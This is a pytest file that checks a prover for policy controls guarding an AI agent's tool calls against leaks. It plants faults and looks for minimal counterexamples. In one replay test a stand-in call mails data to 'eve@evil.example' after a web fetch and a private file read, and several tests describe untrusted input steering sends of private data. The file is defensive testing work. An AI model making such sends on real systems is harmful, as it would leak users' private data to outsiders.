"""Proves that the prover proves: it holds on what is shipped, and finds planted faults with minimal counterexamples.

T5 and T6 on the abstract space, the trifecta on every document and on every sequence of a manifest's tools.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from interlock import Call, Conversation, Interlock, Manifest, MemoryJournal, ToolResult
from interlock.assembly import interlock_for
from interlock.model.canonical import unpack
from interlock.model.settings import parse_settings
from interlock.policy.bundle import Bundle, assemble
from interlock.policy.counterexamples import as_scenario, leak_scenario
from interlock.policy.embedded import EmbeddedEngine
from interlock.policy.prove import document_of, prove_controls, prove_no_leak, search_sequences
from interlock.policy.sources import Source, shipped_sources
from interlock.scenarios import RecordingEngine, run_file

ROOT = Path(__file__).parents[2]
MANIFEST = Manifest.load(ROOT / "tests" / "scenarios" / "manifest.toml")
SHARING = Manifest.parse(
    {
        "version": 1,
        "tools": {
            "fetch": {"returns": ["untrusted:web"], "egress": "chosen", "destinations": {"url": "url"}},
            "share": {"returns": [], "reads": ["private:files"], "egress": "chosen", "destinations": {"with": "email"}},
        },
    }
)


@pytest.fixture(scope="module")
def shipped() -> Bundle:
    return assemble(shipped_sources(), parse_settings({}))


def _changed(bundle: Bundle, code: str, old: str, new: str, **settings: str) -> Bundle:
    """The shipped bundle with one line of one control replaced."""
    sources = []
    for source in bundle.sources:
        if source.path.endswith(f"/{code}.rego"):
            assert old in source.text
            source = replace(source, text=source.text.replace(old, new))
        sources.append(source)
    return assemble(sources, parse_settings(settings))


def _only(bundle: Bundle, code: str) -> Bundle:
    """Only one control: the prover judges each for itself, and the others take their time."""
    kept = tuple(one for one in bundle.sources if one.path.endswith(f"{code}.rego") or "entrypoint" in one.path)
    controls = {name: text for name, text in bundle.controls.items() if name == code}
    return replace(bundle, sources=kept, controls=controls)


@pytest.mark.parametrize(
    "code",
    "control_plane credential_egress destructive leak_guard lockdown secret_egress secret_read self_only"
    " split_exfiltration steered_destination steered_link steered_object steered_party talks_back trifecta"
    " unclassified_arguments unknown_tool".split(),
)
def test_shipped_controls_hold(shipped: Bundle, code: str) -> None:
    """T5, T6. `open_channel` reads the most and takes 10 s: test_commands.py proves it with the starter."""
    (proof,) = prove_controls(_only(shipped, code))
    assert proof.counterexamples == ()
    assert proof.beyond == ()
    assert proof.documents > 10


def test_nothing_leaves_unasked(shipped: Bundle) -> None:
    documents, leak = prove_no_leak(shipped, EmbeddedEngine(shipped).evaluate)
    assert leak is None
    assert documents > 50


@pytest.mark.parametrize("settings", [{}, {"trifecta": "ask", "open_channel": "ask"}])
@pytest.mark.parametrize("manifest", [MANIFEST, SHARING], ids=["scenarios", "sharing"])
def test_no_sequence_leaks(settings: dict[str, str], manifest: Manifest) -> None:
    bundle = assemble(shipped_sources(), parse_settings(settings))
    search = search_sequences(bundle, EmbeddedEngine(bundle).evaluate, manifest)
    assert search.complete
    assert search.leak == ()
    assert search.states > 1


def test_exposure_instead_of_forecast_is_found(shipped: Bundle, tmp_path: Path) -> None:
    """Planted: own private labels don't count, so one call that reads and sends at once gets through."""
    alone = {"preset": "trifecta-only"}  # else another control asks about such a send
    faulty = _changed(shipped, "trifecta", "input.forecast.private == []", "input.exposure.private == []", **alone)
    engine = EmbeddedEngine(faulty)
    _, leak = prove_no_leak(faulty, engine.evaluate)
    assert leak is not None
    assert leak.size == 4  # untrusted, private by a call of the round, egress, not grounded: none can be left out
    search = search_sequences(faulty, engine.evaluate, SHARING)
    assert [(move.spec.id.name, move.grounded) for move in search.leak][-1] == ("share", False)
    assert len(search.leak) == 2
    path = tmp_path / "leak.yaml"
    path.write_text(leak_scenario(search.leak))
    assert all(report.passed for report in run_file(path, interlock_for)), "the shipped controls stop the sequence"


def test_a_negation_is_found(shipped: Bundle) -> None:
    """Planted: `not` is true of a field that is gone."""
    faulty = _changed(shipped, "destructive", "input.call.grounded == true", "not input.call.grounded == false")
    (proof,) = prove_controls(_only(faulty, "destructive"))
    (found,) = proof.counterexamples
    assert (found.law, found.damage) == ("T6", "input.call deleted")
    assert found.size == 4  # untrusted, an effect, not grounded, no target named


BLIND_TO_UNKNOWN = """package controls.secrets

default verdict := {"verdict": "ask"}

verdict := {"verdict": "allow"} if count([c | some c in input.forecast.private; c == "credentials"]) == 0
"""


def test_a_control_that_ignores_unknown_is_found(tmp_path: Path) -> None:
    """Planted: `unknown` is the top of its leg, but this control looks for one word."""
    bundle = assemble([*shipped_sources(), Source("secrets.rego", BLIND_TO_UNKNOWN)], parse_settings({}))
    (proof,) = prove_controls(_only(bundle, "secrets"))
    found = next(one for one in proof.counterexamples if one.law == "T5")
    assert found.verdicts == ("ask", "allow")
    assert found.size == 1
    assert ("unknown",) in found.stronger.values()
    path = tmp_path / "found.yaml"
    path.write_text(as_scenario(found))
    (tmp_path / "controls").mkdir()
    (tmp_path / "controls" / "secrets.rego").write_text(BLIND_TO_UNKNOWN)
    path.write_text(path.read_text() + "policies: [controls]\n")
    reports = {report.name: report for report in run_file(path, interlock_for)}
    assert not reports["stronger"].passed, "the story shows the fault when it is run"


def test_the_abstract_document_is_the_gates_own() -> None:
    """The search asks what the gate would ask: the same builder, with stand-ins for what is not labels."""
    lock = Interlock(manifest=SHARING, journal=MemoryJournal())
    recording = RecordingEngine(lock.engine)
    lock = Interlock(manifest=SHARING, engine=recording, journal=MemoryJournal())
    conversation = Conversation.user("Share it with somebody@example.com")
    lock.guard(conversation).preview(Call("share", {"with": "somebody@example.com"}))
    (asked, _), *_ = recording.documents

    real = unpack(asked)
    share = next(spec for spec in SHARING if spec.id.name == "share")
    abstract = document_of(share, (), grounded=True)
    assert set(abstract) == set(real)
    for part in ("exposure", "forecast", "tool"):
        assert abstract[part] == real[part]
    for key in ("grounded", "unclassified", "labels", "control", "siblings"):
        assert abstract["call"][key] == real["call"][key]


def test_recorded_documents_give_the_same_decisions_again() -> None:
    """T11: under the same revision, replaying the documents gives the same answers, in another engine object too."""
    lock = Interlock(manifest=MANIFEST, journal=MemoryJournal())
    recording = RecordingEngine(lock.engine)
    lock = Interlock(manifest=MANIFEST, engine=recording, journal=MemoryJournal())
    conversation = Conversation.user("Read https://example.com/a and mail bob@example.com")
    guard = lock.guard(conversation)
    for call in (
        Call("web_fetch", {"url": "https://example.com/a"}),
        Call("read_file", {"path": "x"}),
        Call("send_email", {"to": "bob@example.com", "body": "x"}),
        Call("send_email", {"to": "eve@evil.example", "body": "x"}),
        Call("nobody_knows", {}),
    ):
        ticket = guard.propose(call)
        for call_id in ticket.allowed:
            guard.observe(ticket, call_id, ToolResult("…"))
    again = EmbeddedEngine(assemble(shipped_sources(), parse_settings({})))
    assert again.revision == recording.revision
    # Five calls, and what was tried to find remedies for those that were refused.
    assert len(recording.documents) > 5
    for document, answer in recording.documents:
        assert again.evaluate(document) == answer
